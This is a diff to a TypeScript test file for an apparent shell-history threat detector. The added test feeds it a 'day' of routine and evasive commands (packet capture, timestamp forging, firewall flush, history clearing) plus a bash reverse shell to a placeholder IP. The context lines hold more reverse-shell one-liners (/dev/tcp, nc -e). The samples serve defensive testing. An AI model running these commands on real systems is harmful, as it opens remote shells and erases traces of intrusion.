@@ -62,6 +62,25 @@ test('commands of a history are judged and cited by their line, and stay data (A
 
 const judgeHistory = (text: string) => judgeArtifact(readArtifact(Buffer.from(text), '.bash_history'));
 
+const DAY = String.raw`
+sudo tcpdump -i eth0 port 443 -w /var/tmp/a.pcap
+touch -d '2024-01-01' backup.tar.gz
+InstallUtil.exe /u C:\build\MyService.exe
+iptables -F
+history -c
+docker exec -it db psql -U postgres
+scp app.tar.gz deploy@web1.example.com:/srv/app
+`;
+
+test('a day of many everyday acts is suspicious, however many rules speak; one grave act among them is malicious', () => {
+  const day = judgeHistory(DAY);
+  expect(day.findings.filter(({ severity }) => severity === 'medium').length).toBeGreaterThanOrEqual(4);
+  expect(day).toMatchObject({ verdict: 'suspicious', severity: 'medium' });
+  expect(day.arithmetic).toContain('weak ones count 0.51 together');
+  const grave = judgeHistory(`${DAY}bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n`);
+  expect(grave.verdict).toBe('malicious');
+});
+
 test.each([
   ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'high'],
   ['nc -e /bin/sh 203.0.113.5 4444', 'high'],
